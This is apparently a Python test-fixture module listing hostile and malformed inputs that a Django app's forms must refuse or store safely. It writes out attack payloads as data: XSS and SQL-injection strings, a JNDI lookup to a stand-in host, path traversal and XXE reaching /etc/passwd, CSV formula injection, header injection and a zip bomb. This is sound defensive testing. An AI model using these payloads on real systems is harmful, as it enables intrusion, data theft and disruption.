"""What somebody hostile, hurried or only unlucky may send. Each value must be refused in words or taken as it is.

What no field of its kind may take stands in tests/test_bad_input.py (MISTAKES) and is part of it.
"""

from collections.abc import Callable
from dataclasses import dataclass

from django import forms

from tests.test_bad_input import MISTAKES, Mistake, is_choice, is_day, is_number, is_text, is_typed_on_one_line


def is_words(field: forms.Field) -> bool:
    """Free words: no address, no website."""
    return is_text(field) and not isinstance(field, forms.EmailField | forms.URLField)


def is_mail(field: forms.Field) -> bool:
    return isinstance(field, forms.EmailField)


def is_website(field: forms.Field) -> bool:
    return isinstance(field, forms.URLField)


def is_time(field: forms.Field) -> bool:
    return isinstance(field, forms.TimeField)


def is_day_or_time(field: forms.Field) -> bool:
    return is_day(field) or is_time(field)


REFUSED = [
    *MISTAKES,
    Mistake("20 KB everywhere", "long " * 4_000 + "end", is_words),  # 200 KB in one field: tests/test_bad_input.py
    Mistake("a vertical tab", "a\x0bb", is_text),
    Mistake("a form feed", "a\x0cb", is_text),
    Mistake("a left-to-right mark", "a\u200eb", is_text),
    Mistake("a line separator", "a\u2028b", is_text),
    Mistake("a byte order mark", "a\ufeffb", is_text),
    Mistake("bytes that were no text", "a\ufffdb", is_text),
    Mistake("a C1 control", "a\x9bb", is_text),
    Mistake("a mail header", "a\r\nBcc: everybody@example.org", is_typed_on_one_line),
    Mistake("an HTTP header", "a\r\nSet-Cookie: session=1", is_typed_on_one_line),
    Mistake("a lone carriage return", "a\rb", is_typed_on_one_line),
    Mistake("1e309", "1e309", is_number),
    Mistake("minus infinity", "-Infinity", is_number),
    Mistake("a signalling NaN", "sNaN", is_number),
    Mistake("two minus signs", "--5", is_number),
    Mistake("hexadecimal", "0x10", is_number),
    Mistake("a half", "½", is_number),
    Mistake("two points", "1.2.3", is_number),
    Mistake("per cent", "5 %", is_number),
    Mistake("a formula", "=1+1", is_number),
    Mistake("a number as a list", "[1]", is_number),
    Mistake("a month of 13", "2026-13-01", is_day),
    Mistake("a week", "2026-W11-3", is_day),
    Mistake("a leap day that is none", "2027-02-29", is_day),
    Mistake("a day in words", "March 11, 2026", is_day),
    Mistake("a number for a day", "46092", is_day),
    Mistake("a moment for a day", "2026-03-11T10:00:00Z", is_day),
    Mistake("24:00", "24:00", is_time),
    Mistake("a time in words", "noon", is_time),
    Mistake("a choice that is a list", "['a']", is_choice),
    Mistake("a negative choice", "-1", is_choice),
    Mistake("320 characters of address", "a" * 308 + "@example.org", is_mail),
    Mistake("two addresses", "a@example.org, b@example.org", is_mail),
    Mistake("a line break in an address", "a@example.org\nBcc: b@example.org", is_mail),
    Mistake("an address in brackets", "<a@example.org>", is_mail),
    Mistake("two at signs", "a@b@example.org", is_mail),
    Mistake("an address without a domain", "a@", is_mail),
    Mistake("data for a website", "data:text/html,<script>alert(1)</script>", is_website),
    Mistake("a file for a website", "file:///etc/passwd", is_website),
]

EITHER = [
    Mistake("an emoji of several", "👩🏽‍🏫 teaches", is_words),
    Mistake("a flag", "🇨🇦", is_words),
    Mistake("decomposed", "E\u0301cole de\u0301compose\u0301e", is_words),
    Mistake("right to left", "مدرسة", is_words),
    Mistake("beyond the basic plane", "𝒯𝒶𝓃𝒹𝑒𝓂", is_words),
    Mistake("200 accents", "a" + "\u0301" * 60, is_words),
    Mistake("no-break spaces alone", "\u00a0\u00a0", is_words),
    Mistake("a soft hyphen", "Tan\u00addem", is_words),
    Mistake("a noncharacter", "a\ufffeb", is_words),
    Mistake("a tag character", "a\U000e0041b", is_words),
    Mistake("private use", "a\ue000b", is_words),
    Mistake("a script", "<script>alert(1)</script>", is_words),
    Mistake("a script that leaves an attribute", '"><script>alert(1)</script>', is_words),
    Mistake("a picture that fails", "<img src=x onerror=alert(1)>", is_words),
    Mistake("a script in svg", "<svg/onload=alert(1)>", is_words),
    Mistake("a comment", "<!-- -->", is_words),
    Mistake("a character reference", "&lt;script&gt;", is_words),
    Mistake("a template", "{{ request.user.password }}", is_words),
    Mistake("a template tag", "{% include 'base.html' %}", is_words),
    Mistake("a format", "%(password)s %s {0.__class__}", is_words),
    Mistake("a lookup", "${jndi:ldap://example.org/a}", is_words),
    Mistake("SQL", "'; DROP TABLE accounts_user; --", is_words),
    Mistake("SQL that is true", "' OR '1'='1", is_words),
    Mistake("wild cards", "%_\\", is_words),
    Mistake("a formula of a sheet", '=HYPERLINK("http://example.org")', is_words),
    Mistake("a formula with plus", "+1+1", is_words),
    Mistake("a formula with minus", "-2+3", is_words),
    Mistake("a formula with at", "@SUM(A1)", is_words),
    Mistake("a formula behind a tab", "\t=1+1", is_words),
    Mistake("a path", "../../../../etc/passwd", is_words),
    Mistake("a path of Windows", "..\\..\\boot.ini", is_words),
    Mistake("an encoded line break", "a%0d%0aSet-Cookie:%20a=b", is_words),
    Mistake("a script address", "javascript:alert(1)", is_words),
    Mistake("None", "None", is_words),
    Mistake("null", "null", is_words),
    Mistake("one quote", "'", is_words),
    Mistake("a list of queries", "[]", is_words),
    Mistake("minus nothing", "-0", is_number),
    Mistake("Arabic digits", "١٢", is_number),
    Mistake("full-width digits", "５", is_number),
    Mistake("a decimal comma", "1,5", is_number),
    Mistake("spaces around", " 5 ", is_number),
    Mistake("an underscore between", "1_0", is_number),
    Mistake("an exponent", "1e1", is_number),
    Mistake("a point at the end", "5.", is_number),
    Mistake("19 digits", "9223372036854775808", is_number),
    Mistake("month first", "03/11/2026", is_day),
    Mistake("short parts", "2026-3-1", is_day),
    Mistake("Arabic day", "٢٠٢٦-٠٣-١١", is_day),
    Mistake("the day the clock springs", "2026-03-08", is_day),
    Mistake("the hour that is not", "02:30", is_time),
    Mistake("a time with seconds", "10:30:59.999999", is_time),
    Mistake("plus", "a+b@example.org", is_mail),
    Mistake("quoted", '"a b"@example.org', is_mail),
    Mistake("an accent in the domain", "a@exämple.org", is_mail),
    Mistake("punycode", "a@xn--exmple-cua.org", is_mail),
    Mistake("a number for a domain", "a@[127.0.0.1]", is_mail),
    Mistake("full-width", "ａ@example.org", is_mail),
    Mistake("a website with a password", "https://user:pass@example.org/", is_website),
    Mistake("a website of this machine", "http://127.0.0.1:8000/", is_website),
    Mistake("a website with a script", "https://example.org/?<script>alert(1)</script>", is_website),
]


# ── Requests that are no form as a browser sends it ──


@dataclass(frozen=True)
class Raw:
    """A request made of the plain body of a form that would be saved: body and content type, and headers."""

    name: str
    make: Callable[[str], tuple[bytes, str]]
    headers: tuple[tuple[str, str], ...] = ()

    def __str__(self) -> str:
        return self.name


FORM = "application/x-www-form-urlencoded"
EDGE = "edge"
SEVERAL = f"multipart/form-data; boundary={EDGE}"
PNG = b"\x89PNG\r\n\x1a\n<html><script>alert(1)</script></html>"
EICAR_LIKE = b"X5O!P%@AP-NOT-A-VIRUS-TANDEM-TEST-FILE!$H+H*"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
BOMB = b"PK\x03\x04" + bytes(300_000)


def plain(body: str) -> tuple[bytes, str]:
    return body.encode(), FORM


def typed(kind: str) -> Callable[[str], tuple[bytes, str]]:
    return lambda body: (body.encode(), kind)


def with_file(name: str, content: bytes, field: str = "upload") -> Callable[[str], tuple[bytes, str]]:
    """The form in several parts, and a file that nobody asked for."""

    def make(body: str) -> tuple[bytes, str]:
        parts = b""
        for pair in body.split("&"):
            key, _, value = pair.partition("=")
            parts += f'--{EDGE}\r\nContent-Disposition: form-data; name="{key}"\r\n\r\n{value}\r\n'.encode()
        head = f'--{EDGE}\r\nContent-Disposition: form-data; name="{field}"; filename="{name}"\r\n'.encode()
        parts += head + b"Content-Type: image/png\r\n\r\n" + content + b"\r\n"
        return parts + f"--{EDGE}--\r\n".encode(), SEVERAL

    return make


RAW = [
    Raw("a file of nothing", with_file("empty.pdf", b"")),
    Raw("a file of another type", with_file("photo.png", b"MZ\x90\x00")),
    Raw("a file a scanner stops", with_file("a.com", EICAR_LIKE)),
    Raw("a zip bomb", with_file("bomb.zip", BOMB)),
    Raw("a picture that is a page", with_file("a.png", PNG)),
    Raw("a picture that runs", with_file("a.svg", SVG)),
    Raw("a file with a long name", with_file("n" * 400 + ".png", PNG)),
    Raw("a file that climbs", with_file("../../../../tmp/a.png", PNG)),
    Raw("a file of 3 MB", with_file("big.png", bytes(3_000_000))),
    Raw("a file in place of a version", with_file("a.png", PNG, "version")),
    Raw("101 files", lambda body: _many_files(101)),
    Raw("JSON", typed("application/json")),
    Raw("plain text", typed("text/plain")),
    Raw("XML that reads files", lambda body: (b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>', "text/xml")),
    Raw("no content type", typed("")),
    Raw("a content type of nonsense", typed("\u00e9/;;;=")),
    Raw("several parts without an edge", typed("multipart/form-data")),
    Raw("several parts with a long edge", typed("multipart/form-data; boundary=" + "x" * 5000)),
    Raw(
        "several parts that break off", lambda body: (with_file("a", b"b")(body)[0][:-30], with_file("a", b"")(body)[1])
    ),
    Raw("an edge and nothing else", lambda body: (f"--{EDGE}".encode(), SEVERAL)),
    Raw("an encoding that is none", typed(f"{FORM}; charset=no-such-encoding")),
    Raw("UTF-16", lambda body: (body.encode("utf-16"), f"{FORM}; charset=utf-16")),
    Raw("UTF-7", typed(f"{FORM}; charset=utf-7")),
    Raw("bytes of Latin-1", lambda body: (body.encode() + b"&more=\xe9\xe8", FORM)),
    Raw("a lone surrogate", lambda body: (body.encode() + b"&more=%ED%A0%80", FORM)),
    Raw("NUL in a body", lambda body: (body.encode() + b"&a%00b=\x00", FORM)),
    Raw("half an escape", lambda body: (body.encode() + b"&more=%&more=%4", FORM)),
    Raw("everything twice", lambda body: (f"{body}&{body}".encode(), FORM)),
    Raw("1,001 fields", lambda body: (body.encode() + b"".join(b"&f%d=1" % n for n in range(1001)), FORM)),
    Raw("deep names", lambda body: (body.encode() + b"&a" + b"[b]" * 5000 + b"=1", FORM)),
    Raw("200 KB of a name", lambda body: (body.encode() + b"&" + b"n" * 200_000 + b"=1", FORM)),
    Raw("another host", plain, (("HTTP_HOST", "evil.example"),)),
    Raw("a host that is none", plain, (("HTTP_HOST", "local host\x00"),)),
    Raw("another host forwarded", plain, (("HTTP_X_FORWARDED_HOST", "evil.example"),)),
    Raw("another method on top", plain, (("HTTP_X_HTTP_METHOD_OVERRIDE", "DELETE"),)),
    Raw("languages of nonsense", plain, (("HTTP_ACCEPT_LANGUAGE", "xx-" * 2000),)),
    Raw("a long header", plain, (("HTTP_REFERER", "https://evil.example/" + "x" * 20_000),)),
    Raw("a step of htmx", plain, (("HTTP_HX_REQUEST", "true"), ("HTTP_HX_CURRENT_URL", "javascript:alert(1)"))),
    Raw("a deep query", plain, (("QUERY_STRING", "&".join(f"a[{n}][b]=1" for n in range(400))),)),
    Raw("a query of 1,001", plain, (("QUERY_STRING", "&".join(f"a{n}=1" for n in range(1001))),)),
    Raw("a query that is no text", plain, (("QUERY_STRING", "q=%ED%A0%80&\x00=%FF"),)),
]


# What is put into a form that asks for a file, by the name it comes under.
FILES: list[tuple[str, bytes]] = [
    ("empty.csv", b""),
    ("photo.csv", b"MZ\x90\x00"),
    ("a.com", EICAR_LIKE),
    ("bomb.xlsx", BOMB),
    ("page.csv", PNG),
    ("a.svg", SVG),
    ("n" * 400 + ".csv", PNG),
    ("../../../../tmp/a.csv", PNG),
    ("big.csv", bytes(3_000_000)),
    ("entities.csv", b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>'),
    ("formula.csv", b"School Number,School Name\n=1+1,=cmd|' /C calc'!A0\n"),
    ("quotes.csv", b'"' * 200_001),
]


def _many_files(number: int) -> tuple[bytes, str]:
    part = f'--{EDGE}\r\nContent-Disposition: form-data; name="f"; filename="a.png"\r\n\r\nx\r\n'
    return f"{part * number}--{EDGE}--\r\n".encode(), SEVERAL
